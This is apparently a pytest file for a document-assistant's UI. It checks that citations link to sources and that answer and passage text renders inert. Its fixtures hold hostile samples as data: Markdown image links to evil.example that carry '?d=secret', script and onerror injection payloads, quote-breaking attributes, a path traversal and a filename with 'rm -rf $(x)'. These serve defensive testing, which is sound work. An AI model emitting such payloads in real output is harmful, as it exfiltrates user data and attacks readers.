"""Answer and source markup: citations link to their source cards, unsupported sentences are
marked, and nothing a model or a document wrote can inject HTML."""

from __future__ import annotations

from html import unescape as html_unescape

from assistant.answer_models import Answer, Citation, SentenceSupport
from retrieval.models import Passage
from ui.chat_session import copy_text, history
from ui.render import answer_html, highlight, location, source_card_html, summary_html


def _p(text: str, page: int | None = 2, title: str = "Travel <Policy>") -> Passage:
    return Passage(chunk_ids=["c"], document_id="d", collection="c", path="/x/travel.pdf", title=title,
                   text=text, start=0, end=len(text), page=page, score=1.0)


def _answer() -> Answer:
    p = _p("The daily meal allowance is 45 euros. Receipts within 30 days.")
    return Answer(
        answer="The allowance is 45 euros per day [1]. Flights are always first class <script>x</script> [1].",
        mode="generated",
        citations=[Citation(n=1, document_id="d", title="T", path="/x/travel.pdf", page=2,
                            quote="The daily meal allowance is 45 euros.", start=0, end=37, supported=True)],
        sentences=[
            SentenceSupport(text="The allowance is 45 euros per day.", citations=[1], supported=True, score=0.9),
            SentenceSupport(text="Flights are always first class <script>x</script>.", citations=[1],
                            supported=False, score=0.1),
        ],
        passages=[p],
    )


def test_answer_links_citations_marks_unsupported_and_escapes():
    html = answer_html(_answer(), "t1")
    assert html.count('<a class="cite" href="#src-t1-1"') == 2
    assert "<script>" not in html and "&lt;script&gt;" in html
    # The unsupported sentence, and only it, is wrapped and flagged.
    assert html.count('class="unsupported"') == 1
    start = html.index('class="unsupported"')
    assert "first class" in html[start:] and "45 euros" not in html[start:]
    assert 'title="Travel &lt;Policy&gt; p. 2"' in html


def test_extractive_and_refused_answers_are_not_marked_unsupported():
    a = _answer().model_copy(update={"mode": "extractive"})
    assert "unsupported" not in answer_html(a, "t")


def test_source_card_highlights_the_quote_in_context():
    text = "A" * 500 + " The daily meal allowance is 45 euros. " + "B" * 500
    card = source_card_html("t1", 1, _p(text), ["The daily meal allowance is 45 euros."])
    assert 'id="src-t1-1"' in card and "p. 2" in card
    assert "<mark>The daily meal allowance is 45 euros.</mark>" in card
    assert card.count("…") == 2  # trimmed around the quote on both sides
    assert "Travel &lt;Policy&gt;" in card


def test_highlight_without_a_match_shows_the_start_and_money_is_not_latex():
    assert "<mark>" not in highlight("Costs are $20 and $30.", ["missing quote"])
    assert "$" not in highlight("Costs are $20 and $30.", [])


def test_location_labels():
    assert location(3, []) == "p. 3"
    assert location(3, [], 4) == "pp. 3–4"
    assert location(None, ["Intro", "Scope"]) == "Intro › Scope"


def test_copy_text_and_history():
    from ui.chat_session import Turn

    a = _answer()
    text = copy_text(a)
    assert text.startswith("The allowance is 45 euros") and "[1] Travel <Policy>, p. 2 (travel.pdf)" in text
    turns = [Turn("q1", a, ["C"]), Turn("q2", Answer(answer="No.", mode="refused"), ["C"])]
    h = history(turns)
    assert [t["role"] for t in h] == ["user", "assistant"] and "[1]" not in h[1]["content"]


def test_upload_names_cannot_escape_the_upload_folder():
    from ui.usecases import safe_name

    assert safe_name("../../etc/passwd.pdf") == "passwd.pdf"
    assert safe_name("C:\\Users\\me\\Report 2024 (final).docx") == "Report 2024 (final).docx"
    assert safe_name("rm -rf $(x);.pdf") == "rm -rf _(x)_.pdf"
    assert safe_name("..") == ""


# --- Rendering through a real Markdown renderer: what the browser would get. -------------------------
# Streamlit parses st.markdown bodies as CommonMark (+GFM) with raw HTML passed through; markdown-it-py
# (a Streamlit dependency) with html=True is the same grammar, so its output is what would reach the DOM.
EVIL = "evil.example"


class _Dom:
    """Tags, attributes and visible text of rendered HTML (stdlib parser: no sanitiser in the way)."""

    def __init__(self, markup: str):
        from html.parser import HTMLParser

        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []
        dom = self

        class _P(HTMLParser):
            def handle_starttag(self, tag, attrs):
                dom.tags.append((tag, {k: v or "" for k, v in attrs}))

            def handle_data(self, data):
                dom.text.append(data)

        _P(convert_charrefs=True).feed(markup)

    def named(self, tag: str) -> list[dict[str, str]]:
        return [a for t, a in self.tags if t == tag]

    @property
    def visible(self) -> str:
        return "".join(self.text)


def _browser(markdown_body: str) -> _Dom:
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    return _Dom(md.render(markdown_body))


def _assert_inert(dom: _Dom) -> None:
    assert not dom.named("img") and not dom.named("script") and not dom.named("iframe")
    for tag, attrs in dom.tags:
        assert not any(k.startswith("on") for k in attrs), (tag, attrs)
        for key in ("href", "src", "srcset", "action", "style"):
            assert EVIL not in attrs.get(key, ""), (tag, attrs)
        if "href" in attrs:
            assert attrs["href"].startswith(("#src-", "#sum-")), (tag, attrs)


PLANTED = ("Costs are $20 [1]. ![x](https://evil.example/?d=secret) <img src=https://evil.example> "
           "[click](https://evil.example) <https://evil.example/auto>\n\n![y](https://evil.example/b.png)\n\n"
           "[ref]: https://evil.example/r\n\n![ref]")


def test_planted_markdown_in_an_answer_is_shown_as_text_never_fetched_or_linked():
    p = _p("Costs are $20.")
    for mode in ("generated", "extractive", "refused"):
        a = Answer(answer=PLANTED, mode=mode, passages=[p],
                   citations=[Citation(n=1, document_id="d", title="T", path="/x/travel.pdf", page=2, quote="Costs are $20.",
                                       start=0, end=14, supported=True)])
        dom = _browser(answer_html(a, "t1"))
        _assert_inert(dom)
        assert "![x](https://evil.example/?d=secret)" in dom.visible and "[click](https://evil.example)" in dom.visible
        assert "<img src=https://evil.example>" in dom.visible
        assert [x["href"] for x in dom.named("a")] == ["#src-t1-1"]  # our citation link, and only it


def test_a_streamed_partial_answer_is_inert_too():
    from ui.render import text_html

    dom = _browser(text_html(PLANTED + " ▌"))
    _assert_inert(dom)
    assert not dom.named("a") and "![y](https://evil.example/b.png)" in dom.visible


def test_a_passage_cannot_end_the_source_card_and_become_markdown():
    text = "line\n\n![x](https://evil.example/a.png)\n\n<script>alert(1)</script>\n\n[c](//evil.example) **b**"
    for card in ("source card", "source panel"):
        if card == "source card":
            markup = source_card_html("t1", 1, _p(text), ["line"])
        else:
            from ui.render import passage_html

            markup = passage_html(_p(text), ["line"])
        dom = _browser(markup)
        _assert_inert(dom)
        for shown in ("line", "![x](https://evil.example/a.png)", "<script>alert(1)</script>", "**b**"):
            assert shown in dom.visible
        assert not dom.named("strong") and not dom.named("p"), "no Markdown was parsed after the blank line"
        assert [t for t, _ in dom.tags][:1] == ["div"]


def test_document_metadata_on_the_admin_page_is_escaped():
    from ui.render import document_heading_html

    dom = _browser(document_heading_html('"><img src=x onerror=alert(1)>', "/docs/<b>a</b>![i](https://evil.example)"))
    _assert_inert(dom)
    assert not dom.named("b")
    assert '"><img src=x onerror=alert(1)>' in dom.visible and "/docs/<b>a</b>![i](https://evil.example)" in dom.visible


def test_summary_labels_with_quotes_cannot_add_attributes():
    label = 'Intro" onmouseover="alert(1)" x="'
    dom = _browser(summary_html("Staff park free [1]. ![x](https://evil.example)", "sum-ab12", {1: label}))
    _assert_inert(dom)
    (link,) = dom.named("a")
    assert link["href"] == "#sum-ab12-1" and link["title"] == label
    from ui.render import summary_card_html

    card = _browser(summary_card_html("sum-ab12", 1, label, "Staff park free.\n\n![x](https://evil.example)",
                                      "Staff park free.", supported=False))
    _assert_inert(card)
    assert label in card.visible and "weak support" in card.visible
    assert [d["id"] for d in card.named("div") if "id" in d] == ["sum-ab12-1"]


def test_the_final_pass_keeps_only_our_anchors_and_tags():
    from ui.render import safe_html

    dom = _browser(safe_html('<a class="cite" href="#src-t-1">[1]</a><a href="//evil.example">x</a>'
                             '<a href="https://evil.example">y</a><a href="#x" onclick="f()">z</a>'
                             '<img src="https://evil.example/p.png"><div id="root" style="background:url(//evil.example)">'
                             "</div><style>*{}</style>a\n\nb"))
    _assert_inert(dom)
    assert [a.get("href") for a in dom.named("a")] == ["#src-t-1", None, None, None]
    assert all("id" not in a for a in dom.named("div")), "only our src-/sum- ids survive (no DOM clobbering)"
    assert not dom.named("style") and "a\n\nb" in dom.visible


def test_escape_helper_escapes_quotes_and_markdown():
    from ui.render import esc

    s = """<a href="x" title='y'>&![i](u) *b* _c_ `d` # e | f ~g~ $1 www.x.example a@b.example 1. h"""
    out = esc(s)
    assert html_unescape(out) == s
    assert not any(c in out for c in "<>\"'![]()*_`|~$@") and ".example" not in out
    dom = _browser(out)  # in plain Markdown (no HTML block) it is text too
    assert not dom.tags[1:] and dom.visible.strip() == s
